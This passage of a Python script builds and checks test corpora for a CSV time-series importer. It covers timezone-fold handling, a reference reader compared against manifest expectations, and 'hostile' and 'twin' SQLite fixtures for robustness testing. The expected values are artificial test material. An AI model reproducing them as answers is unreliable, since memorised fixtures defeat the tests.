                    if (t.hour, t.minute, t.second) == (0, 0, 0) and t < ts_list[i - 1] and \
                            (t + dt.timedelta(days=1) - ts_list[i - 1]).total_seconds() == step:
                        ts_list[i] = t + dt.timedelta(days=1)
            for r, t in zip(imported, ts_list):
                if t.tzinfo is None:
                    t_fold = t.replace(tzinfo=ZoneInfo(tzname), fold=0)
                    if prev is not None and t < prev[0] and t.replace(tzinfo=ZoneInfo(tzname), fold=1).utcoffset() != t_fold.utcoffset():
                        t_fold = t.replace(tzinfo=ZoneInfo(tzname), fold=1)
                    elif prev is not None and prev[1] == 1 and t.replace(tzinfo=ZoneInfo(tzname), fold=1).utcoffset() != t_fold.utcoffset():
                        t_fold = t.replace(tzinfo=ZoneInfo(tzname), fold=1)
                    prev = (t, t_fold.fold)
                    t = t_fold
                utc[str(r[0])] = utc_iso(t)
        levels = {nm: sorted({r[1][ci] for r in imported}) for ci, nm in enumerate(names) if types[nm] == "categorical"}
        values = {nm: [num_val(r[1][ci], dec) for r in imported if r[1][ci].strip() not in MISSING]
                  for ci, nm in enumerate(names) if types[nm] == "numeric"}
        total_imp += len(imported)
        total_rej += len(rejected)
        per = dict(rejected_lines=sorted(rejected), names=names, units=units, types=types, time_column=time_col,
                   missing=missing, utc=utc, levels=levels, values=values,
                   detected=dict(encoding=enc, gzip=gz, delimiter=delim, decimal_mark=dec, has_header=has_header,
                                 header_line=header[0] if has_header else 0,
                                 timestamp_format=tsfmt.get(time_col) if time_col else None))
    per["rows_imported"], per["rows_rejected"] = total_imp, total_rej
    return per


def check_entry(root: Path, e: dict, huge_dir: Path | None) -> list[str]:
    errs = []
    x = e["expect"]
    if e["kind"] == "twin":
        if "generate" in e:
            return []
        p = root / e["file"]
        data = p.read_bytes()
        try:
            con = sqlite3.connect(f"file:{p}?mode=ro", uri=True)
            tables = [r[0] for r in con.execute("SELECT name FROM sqlite_master WHERE type='table'")]
            uv = con.execute("PRAGMA user_version").fetchone()[0]
            integ = con.execute("PRAGMA integrity_check").fetchall()
            con.close()
            bad = ("datasets" not in tables) or uv != 1 or integ != [("ok",)]
            if not bad:
                errs.append("twin file looks like a healthy project")
        except sqlite3.DatabaseError:
            pass
        if p.read_bytes() != data:
            errs.append("check modified the twin file")
        return errs
    if "generate" in e:
        if huge_dir is None:
            return []
        files = [huge_dir / e["generate"]["name"]]
    else:
        files = [root / f for f in (e["files"] if "files" in e else [e["file"]])]
    tz = (e.get("args") or {}).get("timezone", "Europe/Berlin")
    try:
        got = reference_read(files, tz)
    except Fail as f:
        if x["exit"] != 3:
            errs.append(f"reference reader failed ({f}) but exit {x['exit']} expected")
        return errs
    if x["exit"] != 0:
        return [f"reference reader imported {got['rows_imported']} rows but exit {x['exit']} expected"]
    if "files" in e:  # the time axis is the main (first) source's
        got["time_column"] = reference_read(files[:1], tz)["time_column"]
    for k in ("rows_imported", "rows_rejected", "rejected_lines", "time_column"):
        if k in x and x[k] != got[k]:
            errs.append(f"{k}: manifest {x[k]!r} reference {got[k]!r}")
    if "columns" in x and "files" not in e and x["columns"] != len(got["names"]):
        errs.append(f"columns: manifest {x['columns']} reference {len(got['names'])}")
    if "column_names" in x and x["column_names"] != got["names"]:
        errs.append(f"column_names: {x['column_names']} vs {got['names']}")
    for k, v in (x.get("types") or {}).items():
        if "files" in e:
            break
        if got["types"].get(k) != v:
            errs.append(f"type of {k}: manifest {v} reference {got['types'].get(k)}")
    for k, v in (x.get("units") or {}).items():
        if got["units"].get(k) != v:
            errs.append(f"unit of {k}: manifest {v!r} reference {got['units'].get(k)!r}")
    for k, v in (x.get("missing") or {}).items():
        if got["missing"].get(k) != v:
            errs.append(f"missing {k}: manifest {v} reference {got['missing'].get(k)}")
    for k, v in (x.get("utc_at_lines") or {}).items():
        if got["utc"].get(k) != v:
            errs.append(f"utc at line {k}: manifest {v} reference {got['utc'].get(k)}")
    for k, v in (x.get("levels_contain") or {}).items():
        for lv in v:
            if lv not in got["levels"].get(k, []):
                errs.append(f"level {lv!r} missing from {k}")
    for k, v in (x.get("values") or {}).items():
        if got["values"].get(k) != v:
            errs.append(f"values of {k}: {v} vs {got['values'].get(k)}")
    for k, v in (x.get("detected") or {}).items():
        if k == "encoding_starts_with":
            if not got["detected"]["encoding"].startswith(v):
                errs.append(f"encoding {got['detected']['encoding']} does not start with {v}")
        elif got["detected"].get(k) != v:
            errs.append(f"detected {k}: manifest {v!r} reference {got['detected'].get(k)!r}")
    return errs


# ========================================================================================


def write_manifest(c: Corpus) -> None:
    text = json.dumps(c.entries, ensure_ascii=False, indent=2) + "\n"
    (c.root / "MANIFEST.json").write_text(text, encoding="utf-8")


def main() -> int:
    ap = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    ap.add_argument("--check", action="store_true", help="re-read every file with the reference reader")
    ap.add_argument("--generate", metavar="DIR", help="write the huge generated files into DIR and exit")
    ap.add_argument("--check-huge", action="store_true", help="with --check: also generate and check the huge files (slow)")
    a = ap.parse_args()

    if a.generate:
        out = Path(a.generate)
        out.mkdir(parents=True, exist_ok=True)
        for spec, _, _ in huge_specs():
            (out / spec["name"]).write_bytes(generate_huge(spec))
            print("wrote", out / spec["name"])
        return 0

    for d in (IMPORT_DIR, HOSTILE_DIR, MISREAD_DIR):
        d.mkdir(parents=True, exist_ok=True)
        for p in d.iterdir():
            if p.is_file() and p.name != "MANIFEST.json":
                p.unlink()
    imp = Corpus(IMPORT_DIR)
    build_import(imp)
    host = Corpus(HOSTILE_DIR)
    build_hostile(host)
    build_twins(host)
    for e in host.entries:
        if "generate" in e and e["kind"] == "csv":
            e["generate"]["sha256"] = sha256(generate_huge(e["generate"]))
    assert not (HOSTILE_DIR / "does_not_exist.csv").exists()
    # Imported here, not at the top: misread_corpus imports this module's helpers.
    sys.path.insert(0, str(HERE))
    from misread_corpus import build_misread
    mis = Corpus(MISREAD_DIR)
    build_misread(mis)
    write_manifest(imp)
    write_manifest(host)
    write_manifest(mis)
    print(f"import: {len(imp.written)} files, {len(imp.entries)} manifest entries")
    print(f"hostile: {len(host.written)} files, {len(host.entries)} manifest entries "
          f"({sum(1 for e in host.entries if 'generate' in e)} generated at test time, "
          f"{sum(1 for e in host.entries if 'file' in e and not (HOSTILE_DIR / e['file']).exists())} intentionally missing)")
    print(f"misread: {len(mis.written)} files, {len(mis.entries)} manifest entries (expected values are the "
          f"generator's own; --check does not re-read them)")

    if a.check:
        bad = 0
        with tempfile.TemporaryDirectory() as td:
            huge_dir = None
            if a.check_huge:
                huge_dir = Path(td)
                for spec, _, _ in huge_specs():
                    (huge_dir / spec["name"]).write_bytes(generate_huge(spec))
            for c in (imp, host):
                for e in c.entries:
                    errs = check_entry(c.root, e, huge_dir)
                    label = e.get("file") or e.get("files") or e["generate"]["name"]
                    for err in errs:
                        print(f"CHECK {c.root.name}/{label}: {err}")
                    bad += bool(errs)
        print("check:", "all entries agree with the reference reader" if not bad else f"{bad} entries disagree")
        return 1 if bad else 0
    return 0


if __name__ == "__main__":
    sys.exit(main())
